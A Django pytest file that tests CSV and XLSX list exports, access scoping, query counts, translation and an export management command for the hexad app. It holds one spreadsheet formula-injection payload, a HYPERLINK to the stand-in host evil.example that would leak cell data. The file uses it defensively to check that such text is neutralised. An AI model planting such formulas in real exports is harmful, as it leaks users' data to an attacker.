"""List exports (QUALITY.md Q6, Q3): every list page answers `?format=csv|xlsx` with the
filtered list it shows, in the user's language, scoped by the same access rules, with
formula-like text neutralised and a number of queries that does not grow with the rows;
and `hexad export` writes the same lists and the full export to files."""

from __future__ import annotations

import csv
import datetime
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.cache import cache
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from hexad.accounts.models import Account
from hexad.accounts.tests.factories import (
    AccountFactory,
    BusinessUnitFactory,
    TeamMembershipFactory,
)
from hexad.core.exports import CSV_CONTENT_TYPE, XLSX_CONTENT_TYPE, list_exports
from hexad.growth.tests.factories import (
    OfferingFactory,
    OpportunityFactory,
    ValueInitiativeFactory,
    WhitespaceCellFactory,
)
from hexad.people.models import User
from hexad.people.tests.factories import PersonFactory
from hexad.planning.models import AccountPlan
from hexad.planning.tests.factories import (
    ActionFactory,
    BlockerFactory,
    ObjectiveFactory,
    PlanFactory,
    ReviewFactory,
)
from hexad.relationships.tests.factories import (
    InteractionFactory,
    StakeholderFactory,
    TechnicalConcernFactory,
)
from hexad.roles.models import Role

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'

# Each list page with its export name, and a function adding one more row to its list.
PORTFOLIO_LISTS: dict[str, str] = {
    "accounts": "accounts:portfolio",
    "people": "people:list",
    "planning": "planning:portfolio",
    "growth": "growth:portfolio",
    "offerings": "growth:offerings",
    "adoption": "growth:adoption",
    "my-work": "planning:my-work",
}
ACCOUNT_LISTS: dict[str, tuple[str, str]] = {
    "stakeholders": ("relationships:board", "account_pk"),
    "interactions": ("relationships:interactions", "account_pk"),
    "concerns": ("relationships:concerns", "account_pk"),
    "reviews": ("planning:reviews", "account_pk"),
    "blockers": ("planning:blockers", "account_pk"),
    "initiatives": ("growth:initiatives", "pk"),
    "actions": ("planning:plan-detail", "account_pk"),
}
# Lists whose files have addresses of their own: (CSV route, XLSX route, account kwarg).
FILE_ROUTES: dict[str, tuple[str, str, str]] = {
    "coverage": ("coverage:export-csv", "coverage:export-xlsx", ""),
    "opportunities": ("growth:opportunities-csv", "growth:opportunities-xlsx", "pk"),
    "whitespace": ("growth:whitespace-csv", "growth:whitespace-xlsx", "pk"),
}
ACCOUNT_FILES = ("opportunities", "whitespace")
# The further address parts of a list page below an account (the plan of a plan's page).
MORE_KWARGS: dict[str, Callable[[Account], dict[str, int]]] = {
    "actions": lambda account: {"pk": _plan(account).pk},
}
ADD_ROW: dict[str, Callable[[Account], object]] = {
    "accounts": lambda account: TeamMembershipFactory(account=AccountFactory()),
    "people": lambda account: TeamMembershipFactory(account=account, person=PersonFactory()),
    "planning": lambda account: AccountFactory(),
    "growth": lambda account: AccountFactory(),
    "stakeholders": lambda account: StakeholderFactory(
        account=account, reports_to=StakeholderFactory(account=account)
    ),
    "interactions": lambda account: _interaction(account),
    "concerns": lambda account: TechnicalConcernFactory(
        account=account, raised_by=StakeholderFactory(account=account)
    ),
    "reviews": lambda account: _review(account),
    "blockers": lambda account: BlockerFactory(account=account, owner=PersonFactory()),
    "initiatives": lambda account: ValueInitiativeFactory(
        account=account, sponsor=StakeholderFactory(account=account)
    ),
    "offerings": lambda account: OfferingFactory(),
    "adoption": lambda account: OfferingFactory(is_new=True),
    "my-work": lambda account: _action(account, User.objects.get(username="leader").person),
    "coverage": lambda account: TeamMembershipFactory(account=AccountFactory()),
    "opportunities": lambda account: OpportunityFactory(account=account),
    "whitespace": lambda account: WhitespaceCellFactory(
        business_unit=BusinessUnitFactory(account=account)
    ),
    "actions": lambda account: _action(account, PersonFactory()),
}


def _plan(account: Account) -> AccountPlan:
    return AccountPlan.objects.filter(account=account).first() or PlanFactory(account=account)


def _old_plan(account: Account) -> AccountPlan:
    start, end = datetime.date(2020, 1, 1), datetime.date(2020, 12, 31)
    return PlanFactory(account=account, period_start=start, period_end=end)


def _action(account: Account, owner: object) -> object:
    plan = _plan(account)
    return ActionFactory(
        plan=plan, owner=owner, objective=ObjectiveFactory(plan=plan), role=Role.objects.first()
    )


def _interaction(account: Account) -> object:
    interaction = InteractionFactory(account=account)
    interaction.people.add(PersonFactory())
    interaction.stakeholders.add(StakeholderFactory(account=account))
    return interaction


def _review(account: Account) -> object:
    review = ReviewFactory(account=account)
    review.people.add(PersonFactory())
    review.stakeholders.add(StakeholderFactory(account=account))
    return review


def url(name: str, account: Account, fmt: str = "csv", **params: str) -> str:
    if name in FILE_ROUTES:  # lists with an address of their own per format
        csv_route, xlsx_route, key = FILE_ROUTES[name]
        path = reverse(csv_route if fmt == "csv" else xlsx_route,
                       kwargs={key: account.pk} if key else None)  # fmt: skip
        query = "&".join(f"{k}={v}" for k, v in params.items())
        return f"{path}?{query}" if query else path
    if name in PORTFOLIO_LISTS:
        path = reverse(PORTFOLIO_LISTS[name])
    else:
        route, key = ACCOUNT_LISTS[name]
        more = MORE_KWARGS[name](account) if name in MORE_KWARGS else {}
        path = reverse(route, kwargs={key: account.pk, **more})
    query = "&".join(f"{k}={v}" for k, v in {**params, "format": fmt}.items())
    return f"{path}?{query}"


def csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"] == CSV_CONTENT_TYPE
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_rows(response) -> list[list[object]]:
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def queries(client: Client, address: str) -> int:
    """The queries of one request, with nothing kept from earlier ones (hexad.core.cache)."""
    cache.clear()
    with CaptureQueriesContext(connection) as captured:
        response = client.get(address)
        assert response.status_code == 200
        b"".join(response.streaming_content) if response.streaming else response.content
    return len(captured)


def test_every_list_page_named_here_is_registered() -> None:
    assert set(list_exports()) == {*PORTFOLIO_LISTS, *ACCOUNT_LISTS, *FILE_ROUTES} | {
        "staffing-conflicts",  # managers only: hexad/staffing/tests/test_exports.py
        "staffing-restrictions",
    }


@pytest.mark.parametrize("name", [*PORTFOLIO_LISTS, *ACCOUNT_LISTS, *FILE_ROUTES])
def test_each_list_exports_as_csv_and_xlsx_with_its_rows(client, leader, account, name) -> None:
    ADD_ROW[name](account)
    client.force_login(leader)

    as_csv = client.get(url(name, account, "csv"))
    as_xlsx = client.get(url(name, account, "xlsx"))

    rows = csv_rows(as_csv)
    assert as_csv["Content-Disposition"].startswith(f'attachment; filename="hexad-{name}')
    assert as_csv["Cache-Control"] == "private, no-store"
    assert len(rows) >= 2  # the header and at least the row added
    sheet = xlsx_rows(as_xlsx)
    assert [str(value) for value in sheet[0]] == rows[0]
    assert len(sheet) == len(rows)


@pytest.mark.parametrize("name", [*PORTFOLIO_LISTS, *ACCOUNT_LISTS, *FILE_ROUTES])
def test_an_export_runs_the_same_queries_for_one_row_or_many(client, leader, account, name) -> None:
    client.force_login(leader)
    ADD_ROW[name](account)
    queries(client, url(name, account))  # the first request of a session reads more
    few = queries(client, url(name, account))
    for _ in range(4):
        ADD_ROW[name](account)

    assert queries(client, url(name, account)) == few


def test_the_portfolio_export_reads_accounts_then_team_figures_per_batch(
    client, leader, account, django_assert_num_queries
) -> None:
    client.force_login(leader)
    for _ in range(3):
        TeamMembershipFactory(account=AccountFactory())
    client.get(url("accounts", account))  # the first request of a session reads more
    # session, user, roles, the accounts (one batch of up to 500), their active
    # memberships with role assignments, the tiers' required roles
    with django_assert_num_queries(6):
        rows = csv_rows(client.get(url("accounts", account)))
    assert len(rows) == 1 + 4


def test_an_export_keeps_the_page_filters_and_ignores_the_page_number(
    client, leader, account
) -> None:
    AccountFactory(name="Borealis Bank")
    AccountFactory(name="Bora Tools")
    client.force_login(leader)

    rows = csv_rows(client.get(url("accounts", account, q="Bor", page="2", sort="-name")))

    assert [row[0] for row in rows[1:]] == ["Borealis Bank", "Bora Tools"]


def test_the_page_links_to_its_filtered_export(client, leader, account) -> None:
    client.force_login(leader)
    page = client.get(reverse("accounts:portfolio") + "?q=Acme&page=1").content.decode()

    assert 'href="/accounts/?q=Acme&amp;format=csv" download' in page
    assert 'href="/accounts/?q=Acme&amp;format=xlsx" download' in page


def test_a_plans_export_holds_that_plans_actions_only(client, leader, account) -> None:
    mine = _action(account, PersonFactory())
    ActionFactory(plan=_old_plan(account), title="Old step")
    client.force_login(leader)

    rows = csv_rows(client.get(url("actions", account, plan="0")))  # the address decides

    assert [row[3] for row in rows[1:]] == [mine.title]
    assert rows[1][:3] == ["Acme Polska", mine.plan.title, mine.objective.title]


def test_a_plan_of_another_account_is_not_found(client, leader, account) -> None:
    elsewhere = PlanFactory(account=AccountFactory())
    client.force_login(leader)
    path = reverse("planning:plan-detail", kwargs={"account_pk": account.pk, "pk": elsewhere.pk})

    assert client.get(path + "?format=csv").status_code == 404


def test_my_work_exports_only_the_users_own_open_actions(client, member, account) -> None:
    mine = _action(account, member.person)
    _action(account, PersonFactory())
    ActionFactory(plan=mine.plan, owner=member.person, status="done")
    client.force_login(member)

    rows = csv_rows(client.get(url("my-work", account)))

    assert [row[3] for row in rows[1:]] == [mine.title]


def test_redrawn_plan_actions_keep_linking_to_the_plan_page(client, leader, account) -> None:
    action = _action(account, PersonFactory())
    client.force_login(leader)
    page = reverse("planning:plan-detail", kwargs={"account_pk": account.pk, "pk": action.plan_id})
    response = client.post(
        reverse("planning:action-status", kwargs={"account_pk": account.pk, "pk": action.pk}),
        {"status": "in_progress"},
        headers={"HX-Request": "true", "HX-Target": "plan-body"},
    )

    assert response.status_code == 200
    assert f'href="{page}?format=csv" download' in response.content.decode()


@pytest.mark.parametrize(
    ("route", "fmt"), [("growth:offerings", "csv"), ("growth:adoption", "xlsx")]
)
def test_the_growth_pages_link_to_their_exports(client, member, route, fmt) -> None:
    OfferingFactory(is_new=True)
    client.force_login(member)

    page = client.get(reverse(route)).content.decode()

    assert f'href="{reverse(route)}?format={fmt}" download' in page


@pytest.mark.parametrize("name", [*ACCOUNT_LISTS, *ACCOUNT_FILES])
def test_an_outsider_gets_404_for_an_account_list_export(client, outsider, account, name) -> None:
    ADD_ROW[name](account)
    client.force_login(outsider)

    assert client.get(url(name, account, "csv")).status_code == 404
    assert client.get(url(name, account, "xlsx")).status_code == 404


def test_a_member_exports_only_the_accounts_they_see(client, member, account) -> None:
    AccountFactory(name="Not Theirs")
    client.force_login(member)

    for name in ("accounts", "planning", "growth", "coverage"):
        rows = csv_rows(client.get(url(name, account)))
        assert [row[0] for row in rows[1:]] == ["Acme Polska"], name


def test_formula_like_text_is_neutralised_in_csv_and_xlsx(client, leader, account) -> None:
    StakeholderFactory(account=account, name=PAYLOAD, title="+48 600 100 200")
    client.force_login(leader)

    row = csv_rows(client.get(url("stakeholders", account)))[1]
    assert row[1] == "'" + PAYLOAD
    assert row[2] == "'+48 600 100 200"
    workbook = load_workbook(io.BytesIO(client.get(url("stakeholders", account, "xlsx")).content))
    cell = workbook.active.cell(row=2, column=2)
    assert cell.value == PAYLOAD
    assert cell.data_type == "s"  # text, never a formula
    assert cell.quotePrefix


def test_headers_and_labels_follow_the_users_language(client, leader: User, account) -> None:
    leader.language = "pl"
    leader.save(update_fields=["language"])
    StakeholderFactory(account=account)
    client.force_login(leader)

    header = csv_rows(client.get(url("stakeholders", account)))[0]

    with translation.override("pl"):
        expected = [gettext("Account"), gettext("Stakeholder"), gettext("Title")]
    assert header[:3] == expected
    assert header[0] != "Account"


# --- hexad export -------------------------------------------------------------------------


def test_the_command_writes_a_filtered_list_as_csv_and_xlsx(tmp_path: Path, account) -> None:
    AccountFactory(name="Borealis Bank")
    out = io.StringIO()
    call_command(
        "export", "accounts", "--filter", "q=Bor", "-o", str(tmp_path / "a.csv"), stdout=out
    )
    call_command(
        "export", "accounts", "--format", "xlsx", "-o", str(tmp_path / "a.xlsx"), stdout=out
    )

    text = (tmp_path / "a.csv").read_text(encoding="utf-8-sig")
    assert [row[0] for row in csv.reader(io.StringIO(text))] == ["Account", "Borealis Bank"]
    sheet = load_workbook(tmp_path / "a.xlsx").active
    assert [row[0] for row in sheet.iter_rows(values_only=True)] == [
        "Account",
        "Acme Polska",
        "Borealis Bank",
    ]
    assert "Exported 1 rows" in out.getvalue()
    assert (tmp_path / "a.csv").stat().st_mode & 0o077 == 0  # the owner's only


def test_the_command_exports_as_a_given_user_sees(tmp_path: Path, member, account) -> None:
    AccountFactory(name="Not Theirs")
    call_command("export", "accounts", "--user", "member", "-o", str(tmp_path / "a.csv"))
    text = (tmp_path / "a.csv").read_text(encoding="utf-8-sig")
    assert [row[0] for row in csv.reader(io.StringIO(text))] == ["Account", "Acme Polska"]


def test_the_command_names_every_list() -> None:
    out = io.StringIO()
    call_command("export", "--lists", stdout=out)

    named = {line.split()[0] for line in out.getvalue().splitlines()}
    assert named == set(list_exports())
    assert {"my-work", "offerings", "adoption", "actions"} <= named
    assert "actions          Plan actions  (--account required)" in out.getvalue()


def test_the_command_exports_one_plans_actions(tmp_path: Path, account) -> None:
    action = _action(account, PersonFactory())
    ActionFactory(plan=_old_plan(account))
    target = tmp_path / "a.csv"
    call_command(
        "export", "actions", "--account", str(account.pk), "--filter", f"plan={action.plan_id}",
        "-o", str(target), "--quiet",
    )  # fmt: skip

    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert [row[3] for row in rows[1:]] == [action.title]


def test_the_command_explains_what_it_needs(tmp_path: Path, account) -> None:
    with pytest.raises(CommandError, match="--account"):
        call_command("export", "stakeholders", "-o", str(tmp_path / "s.csv"))
    with pytest.raises(CommandError, match="no list called 'nothing'"):
        call_command("export", "nothing")
    with pytest.raises(CommandError, match="NAME=VALUE"):
        call_command("export", "accounts", "--filter", "tier")
    with pytest.raises(CommandError, match="Account 999999 does not exist"):
        call_command("export", "reviews", "--account", "999999", "-o", str(tmp_path / "r.csv"))
    (tmp_path / "taken.csv").write_text("mine")
    with pytest.raises(CommandError, match="already exists"):
        call_command("export", "accounts", "-o", str(tmp_path / "taken.csv"))
    assert (tmp_path / "taken.csv").read_text() == "mine"
    assert not (tmp_path / "s.csv").exists()


def test_the_command_writes_the_full_export(tmp_path: Path, account) -> None:
    out = io.StringIO()
    call_command("export", "--full", str(tmp_path / "all.json"), stdout=out)

    document = json.loads((tmp_path / "all.json").read_text())
    tables = {table["model"]: table for table in document["tables"]}
    assert [row[0] for row in tables["accounts.Account"]["rows"]] == [account.pk]
    assert "Exported" in out.getvalue()


# --- the administrators' page --------------------------------------------------------------


def test_administrators_download_everything_from_their_page(client, admin_user, account) -> None:
    client.force_login(admin_user)
    page = client.get(reverse("export-everything"))
    assert page.status_code == 200
    assert reverse("export-everything-download") in page.content.decode()

    response = client.get(reverse("export-everything-download"))

    assert response["Content-Disposition"].startswith('attachment; filename="hexad-export-')
    document = json.loads(b"".join(response.streaming_content))
    assert document["format"] == "hexad-full-export"
    assert any(table["model"] == "accounts.Account" for table in document["tables"])


def test_nobody_else_finds_the_export_page(client, leader) -> None:
    client.force_login(leader)
    assert client.get(reverse("export-everything")).status_code == 404
    assert client.get(reverse("export-everything-download")).status_code == 404
